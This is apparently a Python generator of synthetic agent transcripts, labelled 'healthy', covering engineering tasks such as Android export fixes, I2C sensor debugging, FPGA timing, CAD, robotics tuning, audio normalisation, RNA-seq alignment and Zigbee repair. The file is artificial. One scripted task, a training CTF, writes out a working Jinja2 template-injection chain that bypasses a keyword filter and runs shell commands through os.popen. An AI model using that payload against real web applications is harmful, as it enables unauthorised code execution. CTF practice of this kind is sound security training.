        ("ERROR: Cannot export project with preset \"Android\" due to configuration errors:\nA valid Java SDK path is required in Editor Settings.", "editor_settings-4.4.tres", "export/android/java_sdk_path = \"\"", "export/android/java_sdk_path = \"/usr/lib/jvm/java-17-openjdk\""),
        ("ERROR: Cannot export project with preset \"Android\" due to configuration errors:\nAndroid build template not installed in the project.", "", "", ""),
        ("> Task :compileStandardDebugKotlin FAILED\nerror: unresolved reference: GodotPlugin", "android/plugins/haptics/Haptics.kt", "import org.godotengine.godot.GodotPlugin", "import org.godotengine.godot.plugin.GodotPlugin")]):
        s.bash("godot --headless --export-debug Android build/hopper.apk 2>&1 | tail -3", error, ms=11_000 + n * 27_000)
        if path:
            s.edit(path, old, new)
        else:
            s.bash("godot --headless --install-android-build-template --quit 2>&1 | tail -1", "Android build template installed.", ms=9000)
    for n, (crash, path, old, new) in enumerate([
        ("E godot   : SCRIPT ERROR: Invalid call. Nonexistent function 'set_tween_process_mode' in base 'Tween'.\nE godot   :    at: _ready (res://ui/title.gd:31)", "ui/title.gd", "t.set_tween_process_mode(0)", "t.set_process_mode(Tween.TWEEN_PROCESS_PHYSICS)"),
        ("E godot   : SHADER ERROR: Unknown identifier in expression: 'SCREEN_TEXTURE'.\nE godot   :    at: (null) (res://fx/water.gdshader:14)", "fx/water.gdshader", "SCREEN_TEXTURE", "screen_tex"),
        ("E godot   : SCRIPT ERROR: Attempt to call function 'vibrate' in base 'null instance' on a null instance.\nE godot   :    at: _hit (res://player.gd:88)", "player.gd", "Engine.get_singleton(\"Haptics\").vibrate(40)", "if Engine.has_singleton(\"Haptics\"):\n\t\tEngine.get_singleton(\"Haptics\").vibrate(40)")]):
        s.bash("godot --headless --export-debug Android build/hopper.apk 2>&1 | tail -1", "[ DONE ] export", ms=71_000 + n * 800)
        s.bash("adb install -r build/hopper.apk", "Performing Streamed Install\nSuccess", ms=8200)
        s.bash("adb logcat -c; adb shell am start -n net.nordlys.hopper/com.godot.game.GodotApp; sleep 8; adb logcat -d -s godot:E | tail -2", f"Starting: Intent {{ cmp=net.nordlys.hopper/com.godot.game.GodotApp }}\n{crash}", ms=9300)
        s.edit(path, old, new)
    s.bash("godot --headless --export-debug Android build/hopper.apk 2>&1 | tail -1", "[ DONE ] export", ms=72_000)
    s.bash("adb install -r build/hopper.apk", "Performing Streamed Install\nSuccess", ms=8200)
    s.bash("adb logcat -c; adb shell am start -n net.nordlys.hopper/com.godot.game.GodotApp; sleep 8; adb logcat -d -s godot:E | tail -2", "Starting: Intent { cmp=net.nordlys.hopper/com.godot.game.GodotApp }", ms=9300)


@healthy("work:embedded", "soil-sensor", "The STM32 board reads 0xFF from the SHT31 sensor. Find out why; the logic analyser is on SDA and SCL.", client="claude")
def board_flashed_and_measured_until_the_sensor_answers(s):
    flash = "make -s flash"
    serial = "timeout 5 cat /dev/ttyACM0 | tail -3"
    probe = "sigrok-cli -d fx2lafw --config samplerate=4m --samples 400k -P i2c:scl=D0:sda=D1 -A i2c=address-write:address-read:ack:nack | head -4"
    ok = "** Programming Finished **\n** Verified OK **\n** Resetting Target **\nshutdown command invoked"
    for n, (log, wire, path, old, new) in enumerate([
        ("[00:00:03] sht31: raw ff ff ff ff ff ff\n[00:00:04] sht31: raw ff ff ff ff ff ff\n[00:00:05] sht31: raw ff ff ff ff ff ff", "i2c-1: Address write: 22\ni2c-1: NACK\ni2c-1: Address write: 22\ni2c-1: NACK", "src/sht31.c", "#define SHT31_ADDR 0x44", "#define SHT31_ADDR (0x44 << 1)"),
        ("[00:00:03] sht31: raw ff ff ff ff ff ff\n[00:00:04] sht31: raw ff ff ff ff ff ff\n[00:00:05] sht31: raw ff ff ff ff ff ff", "i2c-1: Address write: 44\ni2c-1: NACK\ni2c-1: Address write: 44\ni2c-1: NACK", "src/sht31.c", "#define SHT31_ADDR (0x44 << 1)", "#define SHT31_ADDR (0x45 << 1)  /* ADDR pin is high on rev B */"),
        ("[00:00:03] sht31: write ok, read timeout\n[00:00:04] sht31: write ok, read timeout\n[00:00:05] sht31: write ok, read timeout", "i2c-1: Address write: 45\ni2c-1: ACK\ni2c-1: Address read: 45\ni2c-1: NACK", "src/sht31.c", "HAL_Delay(1);", "HAL_Delay(16);  /* high repeatability takes 15 ms */"),
        ("[00:00:03] sht31: raw 63 1f 8b 7c aa 02 crc bad\n[00:00:04] sht31: raw 63 21 d5 7c a8 60 crc bad\n[00:00:05] sht31: raw 63 20 e4 7c a9 51 crc bad", "", "src/crc8.c", "uint8_t crc = 0x00;", "uint8_t crc = 0xFF;")]):
        s.bash(flash, ok, ms=7100 + n * 130)
        s.bash(serial, log, ms=5000)
        if wire:
            s.bash(probe, wire, ms=1400)
        else:
            s.look(path, "uint8_t crc8(const uint8_t *p, int n) {\n    uint8_t crc = 0x00;\n    while (n--) {\n        crc ^= *p++;")
        s.edit(path, old, new)
    s.bash(flash, "Error: init mode failed (unable to connect to the target)\nmake: *** [Makefile:61: flash] Error 1", 2, ms=2100)
    s.bash("make -s flash OOCD_FLAGS='-c \"reset_config connect_assert_srst\"'", ok, ms=7700)
    s.bash(serial, "[00:00:03] sht31: 22.71 C 48.70 %\n[00:00:04] sht31: 22.72 C 48.69 %\n[00:00:05] sht31: 22.71 C 48.69 %", ms=5000)


@healthy("work:fpga", "beamformer", "Close timing of the beamformer at 250 MHz (part xc7a200t-2). Report WNS after each step.", client="codex")
def fpga_timing_closed_step_by_step_with_setbacks(s):
    build = "vivado -mode batch -nojournal -source build.tcl | grep -E 'WNS|ERROR' | tail -1"
    s.bash("sed -n 1,12p build.tcl", "read_verilog [glob rtl/*.v]\nread_xdc top.xdc\nsynth_design -top beam -part xc7a200tfbg484-2\nopt_design\nplace_design\nroute_design\nreport_timing_summary -file timing.rpt")
    steps = [("-1.842", "mac_tree/sum_r_reg[41]/D", "rtl/mac_tree.v", "assign sum = a + b + c + d;", "always @(posedge clk) begin ab <= a + b; cd <= c + d; sum <= ab + cd; end"),
             ("-0.977", "delay_ram/addr_reg[9]/R", "rtl/delay_ram.v", "if (rst) addr <= 0;", "addr <= addr_next;"),
             ("-0.981", "coef_mux/sel_reg[3]/Q", "rtl/coef_mux.v", "reg [3:0] sel;", "(* max_fanout = 32 *) reg [3:0] sel;"),
             ("-0.412", "mac_tree/ab_reg[22]/D", "build.tcl", "place_design", "place_design -directive ExtraTimingOpt\nphys_opt_design -directive AggressiveExplore"),
             ("-0.447", "axi_out/fifo/wr_ptr_reg[6]/CE", "rtl/axi_out.v", "assign full = (wr_ptr + 1 == rd_ptr);", "always @(posedge clk) full <= (wr_ptr + 2 == rd_ptr);"),
             ("-0.083", "mac_tree/cd_reg[30]/D", "rtl/mac_tree.v", "(* use_dsp = \"no\" *)", "(* use_dsp = \"yes\" *)")]
    for n, (wns, worst, path, old, new) in enumerate(steps):
        s.bash(build, f"INFO: [Route 35-57] Estimated Timing Summary | WNS={wns} | TNS=-{412.7 / (n + 1):.3f}| WHS=0.04{n}  | THS=0.000  |", ms=540_000 + n * 8000)
        s.bash("grep -m1 -A1 'Destination:' timing.rpt", f"  Destination:            {worst}\n                            (rising edge-triggered cell FDRE clocked by clk250)")
        s.edit(path, old, new)
        if path.endswith(".v"):
            s.bash("make -C sim -s test | tail -1", "** TESTS=9 PASS=9 FAIL=0 SKIP=0 **" if n != 4 else "** TESTS=9 PASS=8 FAIL=1 SKIP=0 **", ms=31_000)
        if n == 4:
            s.edit("rtl/axi_out.v", "wr_ptr + 2 == rd_ptr", "wr_ptr + 1 + wr_en == rd_ptr")
            s.bash("make -C sim -s test | tail -1", "** TESTS=9 PASS=9 FAIL=0 SKIP=0 **", ms=31_000)
    s.bash(build, "INFO: [Route 35-57] Estimated Timing Summary | WNS=0.031  | TNS=0.000  | WHS=0.041  | THS=0.000  |", ms=588_000)


@healthy("work:cad", "bracket", "Make the sensor bracket printable without support and below 18 g; it must keep the four M3 holes on 42 x 28 mm.", client="plain")
def openscad_bracket_rendered_after_each_change(s):
    values = {"wall": "4.0", "rib": "3.0", "overhang": "60", "infill_pocket": "0", "fillet": "1"}
    s.look("bracket.scad", "\n".join(f"{k} = {v};" for k, v in values.items()) + "\nholes = [42, 28];\nmodule bracket() { ... }\nbracket();")
    for n, (key, value, grams, over, note) in enumerate([("wall", "3.0", 23.4, 11, ""), ("wall", "2.4", 20.9, 11, ""), ("overhang", "45", 21.3, 3, ""), ("fillet", "3", 21.6, 0, ""), ("rib", "2.0", 20.2, 0, ""), ("infill_pocket", "6", 17.9, 2, ""), ("infill_pocket", "5", 18.2, 0, ""), ("rib", "1.8", 17.8, 0, "")]):
        s.edit("bracket.scad", f"{key} = {values[key]};", f"{key} = {value};")
        values[key] = value
        bad = n == 5
        s.bash("openscad -q -o bracket.stl bracket.scad && admesh --fix bracket.stl | grep -E 'Volume|Number of parts'", f"Number of parts       :     1        Volume   :  {grams / 1.24 * 1000:.6f}", ms=8800 + 240 * n)
        s.bash("prusa-slicer --export-gcode --filament-density 1.24 bracket.stl -o b.gcode && grep -iE 'filament used \\[g\\]|overhang perimeter' b.gcode | sort | uniq -c", f"      1 ; filament used [g] = {grams}" + (f"\n     {over:2} ;TYPE:Overhang perimeter" if over else ""), ms=6100)
    s.bash("python3 check_holes.py bracket.stl", "4 holes, d 3.20, pitch 42.00 x 28.00: ok")
    s.bash("openscad -q --imgsize 800,600 -o bracket.png bracket.scad", "", ms=9100)


@healthy("work:robotics", "rover", "The rover cuts corners in the warehouse simulation. Tune the Nav2 controller until ten runs out of ten reach the goal.", client="claude")
def nav2_tuned_on_the_same_scenario(s):
    sim = "ros2 launch rover_sim scenario.launch.py world:=warehouse runs:=10 headless:=true 2>&1 | tail -2"
    def runs(reached, why):
        s.bash(sim, f"[scenario_runner-7] [INFO] [{s.clock / 1000:.3f}204512] [scenario]: reached {reached}/10{', ' + why if why else ''}\n[INFO] [scenario_runner-7]: process has finished cleanly [pid {41207 + s.calls * 611}]", ms=228_000 + 3100 * reached)
    runs(4, "collided 5, aborted 1")
    s.look("config/nav2.yaml", "local_costmap:\n  inflation_layer:\n    inflation_radius: 0.35\n    cost_scaling_factor: 3.0\ncontroller_server:\n  FollowPath:\n    plugin: nav2_regulated_pure_pursuit_controller\n    lookahead_dist: 0.9\n    desired_linear_vel: 0.8\n    use_rotate_to_heading: false")
    for old, new, reached, why in [("inflation_radius: 0.35", "inflation_radius: 0.55", 6, "collided 2, aborted 2"), ("lookahead_dist: 0.9", "lookahead_dist: 0.5", 7, "collided 1, aborted 2"), ("cost_scaling_factor: 3.0", "cost_scaling_factor: 6.0", 6, "collided 3, aborted 1"), ("cost_scaling_factor: 6.0", "cost_scaling_factor: 3.0", 7, "collided 1, aborted 2"),
                                   ("use_rotate_to_heading: false", "use_rotate_to_heading: true", 9, "aborted 1"), ("desired_linear_vel: 0.8", "desired_linear_vel: 0.65", 9, "aborted 1")]:
        s.edit("config/nav2.yaml", old, new)
        runs(reached, why)
    s.bash("ros2 bag info bags/run_07 | grep -E 'Duration|Messages'", "Duration:          61.402s\nMessages:          48211")
    s.bash("ros2 run rover_tools grep_log bags/run_07 /rosout | grep -i -m2 abort", "[controller_server]: [follow_path] [ActionServer] Aborting handle.\n[controller_server]: Failed to make progress")
    s.edit("config/nav2.yaml", "movement_time_allowance: 5.0", "movement_time_allowance: 12.0")
    runs(10, "")
    runs(10, "")


@healthy("work:media", "podcast", "Normalise the eleven episodes to -16 LUFS (two passes each), true peak below -1.5 dB, mono, 96 kbit/s MP3.", client="codex")
def ffmpeg_two_passes_for_each_episode(s):
    s.bash("ls wav", "\n".join(f"ep{n:02}.wav" for n in range(1, 12)))
    for n in range(1, 12):
        i, tp = -23.1 + n * 7 % 9 * 0.83, -4.2 + n * 5 % 7 * 0.6
        s.bash(f"ffmpeg -hide_banner -nostats -i wav/ep{n:02}.wav -af loudnorm=I=-16:TP=-1.5:LRA=11:print_format=json -f null - 2>&1 | tail -12 | jq -c '{{input_i,input_tp,input_lra,input_thresh}}'", f'{{"input_i":"{i:.2f}","input_tp":"{tp:.2f}","input_lra":"{4 + n % 5}.{n % 10}0","input_thresh":"{i - 10.2:.2f}"}}', ms=21_000 + 700 * n)
        s.bash(f"ffmpeg -hide_banner -loglevel error -y -i wav/ep{n:02}.wav -af loudnorm=I=-16:TP=-1.5:LRA=11:measured_I={i:.2f}:measured_TP={tp:.2f}:measured_LRA={4 + n % 5}.{n % 10}0:measured_thresh={i - 10.2:.2f}:linear=true -ac 1 -b:a 96k mp3/ep{n:02}.mp3", "" if n != 8 else "[wav @ 0x55d0c3a4] Packet corrupt (stream = 0, dts = 88210432).", ms=34_000 + 900 * n)
    s.bash("ffmpeg -v error -i mp3/ep08.mp3 -f null - ; ffprobe -v error -show_entries format=duration -of csv=p=0 mp3/ep08.mp3 wav/ep08.wav", "Argument 'wav/ep08.wav' provided as input filename, but 'mp3/ep08.mp3' was already specified.", 1)
    for f in ("wav/ep08.wav", "mp3/ep08.mp3"):
        s.bash(f"ffprobe -v error -show_entries format=duration -of csv=p=0 {f}", "2412.880000" if "wav" in f else "2412.904490")


@healthy("work:ctf", "ctf-annex", "Solve the web task `annex` at http://annex.ctf.local:8080 (our own training CTF, everything on that host is in scope).", client="plain")
def ctf_enumeration_with_many_misses(s):
    url = "http://annex.ctf.local:8080"
    s.bash(f"curl -si {url}/ | head -8", "HTTP/1.1 200 OK\nServer: Werkzeug/3.0.4 Python/3.12.3\nContent-Type: text/html; charset=utf-8\nSet-Cookie: session=eyJyb2xlIjoiZ3Vlc3QifQ.aNJx1g.k3Vq8m1Zk; HttpOnly; Path=/\n\n<title>Annex</title>\n<a href=/doc?name=welcome>welcome</a>")
    for path in ["robots.txt", ".git/HEAD", "admin", "api", "backup.zip", "console"]:
        s.bash(f"curl -s -o /dev/null -w '%{{http_code}}\\n' {url}/{path}", {"robots.txt": "404", "admin": "403"}.get(path, "404"))
    for name, answer in [("..%2fapp.py", "No such document"), ("....%2f%2fapp.py", "No such document"), ("%2fetc%2fpasswd", "No such document"), ("welcome%00", "No such document"), ("{{7*7}}", "No such document: 49")]:
        s.bash(f"curl -s -g '{url}/doc?name={name}'", answer)
    s.bash(f"curl -s -g '{url}/doc?name={{{{config}}}}'", "Blocked word: config")
    for payload, answer in [("{{self.__dict__}}", "Blocked word: __"), ("{{request.args.a}}&a=x", "No such document: x"), ("{{request|attr(request.args.a)}}&a=__class__", "No such document: <class 'flask.wrappers.Request'>"), ("{{lipsum|attr(request.args.a)}}&a=__globals__", "No such document: {'__name__': 'jinja2.utils', 'os': <module 'os' (frozen)>, ...}"),
                            ("{{((lipsum|attr(request.args.a)).os.popen(request.args.b)).read()}}&a=__globals__&b=ls", "No such document: app.py\ndocs\nrequirements.txt\n"), ("{{((lipsum|attr(request.args.a)).os.popen(request.args.b)).read()}}&a=__globals__&b=ls%20/", "No such document: bin\netc\nflag-7be1\nhome\nusr\n"),
                            ("{{((lipsum|attr(request.args.a)).os.popen(request.args.b)).read()}}&a=__globals__&b=cat%20/flag-7be1", "No such document: ctf{filters_are_not_a_fence}\n")]:
        s.bash(f"curl -s -g '{url}/doc?name={payload}'", answer)
    s.write("writeup.md", "# annex\n\nJinja2 template injection in the error text of /doc; the filter only sees `name`, so the words go into other parameters.\n")


@healthy("work:bioinformatics", "rnaseq", "Align the 12 samples with STAR, count with featureCounts, and tell me which samples have under 70 % uniquely mapped reads.", client="claude")
def star_sample_after_sample(s):
    unique = [88.12, 87.40, 86.95, 89.03, 61.27, 88.51, 87.77, 88.90, 86.10, 90.14, 66.88, 87.02]
    s.bash("ls fastq | wc -l", "24")
    s.bash("head -3 samples.tsv", "sample\tcondition\nS01\tctrl\nS02\tctrl")
    for n, share in enumerate(unique, 1):
        command = f"STAR --runThreadN 16 --genomeDir idx --readFilesIn fastq/S{n:02}_R1.fq.gz fastq/S{n:02}_R2.fq.gz --readFilesCommand zcat --outSAMtype BAM SortedByCoordinate --outFileNamePrefix aln/S{n:02}_"
        if n == 3:
            s.bash(command + " | tail -2", "EXITING because of fatal ERROR: not enough memory for BAM sorting: \nSOLUTION: re-run STAR with at least --limitBAMsortRAM 31532137230", 0, ms=411_000)
            command += " --limitBAMsortRAM 34000000000"
        s.bash(command + " | tail -1", f"Sep 23 {(600 + n * 7) // 60}:{(600 + n * 7) % 60:02}:{n * 17 % 60:02} ..... finished successfully", ms=388_000 + 5100 * (n * 5 % 7))
        s.bash(f"grep 'Uniquely mapped reads %' aln/S{n:02}_Log.final.out", f"                        Uniquely mapped reads % |\t{share:.2f}%")
    for n in (5, 11):
        s.bash(f"grep -E 'too short|multiple loci' aln/S{n:02}_Log.final.out | tail -3", f"             % of reads mapped to multiple loci |\t{6 + n / 10:.2f}%\n                 % of reads unmapped: too short |\t{30.11 - n:.2f}%")
        s.bash(f"zcat fastq/S{n:02}_R1.fq.gz | head -400000 | grep -c AGATCGGAAGAGC", str(41822 - n * 811), ms=2100)
    s.bash("featureCounts -p --countReadPairs -T 16 -a genes.gtf -o counts.txt aln/*.bam 2>&1 | grep -E 'Successfully' ", "\n".join(f"||    Successfully assigned alignments : {18_000_000 + n * 410_331} ({71.2 + n % 5:.1f}%)" for n in range(12)), ms=188_000)


@healthy("work:home", "home-assistant", "Half of the Zigbee lamps dropped out after the move of the coordinator. Get each of them back (re-interview, reconfigure), and tell me which need a visit with a ladder.", client="plain", times="at")
def zigbee_lamps_brought_back_one_by_one(s):
    lamps = [("hall_1", 1), ("hall_2", 1), ("kitchen_spot_1", 1), ("kitchen_spot_2", 2), ("kitchen_spot_3", 1), ("stairs_top", 0), ("stairs_low", 1), ("porch", 0), ("office_desk", 1), ("bath_mirror", 2), ("garage", 0)]
    s.mcp("homeassistant", "list_entities", {"domain": "light", "state": "unavailable"}, [f"light.{name}" for name, _ in lamps])
    for name, tries in lamps:
        for n in range(max(tries, 2) if tries == 0 else tries):
            good = tries and n == tries - 1
            s.mcp("zigbee2mqtt", "interview", {"id": name}, {"status": "ok", "data": {"id": name}} if good else {"status": "error", "error": f"interview failed because can not get node descriptor for '{name}' (No network route)"}, ok=bool(good), ms=9800, gap=20)
        if tries:
            s.mcp("zigbee2mqtt", "configure", {"id": name}, {"status": "ok", "data": {"id": name}})
            s.mcp("homeassistant", "call_service", {"service": "light.toggle", "entity_id": f"light.{name}"}, [{"entity_id": f"light.{name}", "state": "on"}])
        if name == "stairs_top":
            s.mcp("zigbee2mqtt", "networkmap", {"type": "raw", "routes": False}, {"nodes": 41, "links": 118, "failed": ["stairs_top", "porch", "garage"]}, ms=61_000)
    s.mcp("homeassistant", "create_todo", {"list": "House", "item": "Power-cycle stairs_top, porch, garage next to the coordinator"}, {"ok": True})
